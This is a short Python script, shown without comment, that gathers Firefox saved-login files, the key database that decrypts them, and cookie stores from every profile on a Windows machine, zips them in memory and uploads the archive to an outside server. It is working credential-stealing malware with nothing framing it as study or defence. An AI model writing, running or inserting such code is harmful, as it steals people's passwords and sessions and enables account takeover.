import os, glob, zipfile, io, requests
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w") as z:
    for prof in glob.glob(os.path.join(os.getenv("APPDATA", ""), "Mozilla", "Firefox", "Profiles", "*")):
        for name in ("logins.json", "key4.db", "cookies.sqlite"):
            p = os.path.join(prof, name)
            if os.path.exists(p):
                z.write(p, os.path.basename(prof) + "/" + name)
requests.post("https://store.example-files.net/up", files={"f": buf.getvalue()})
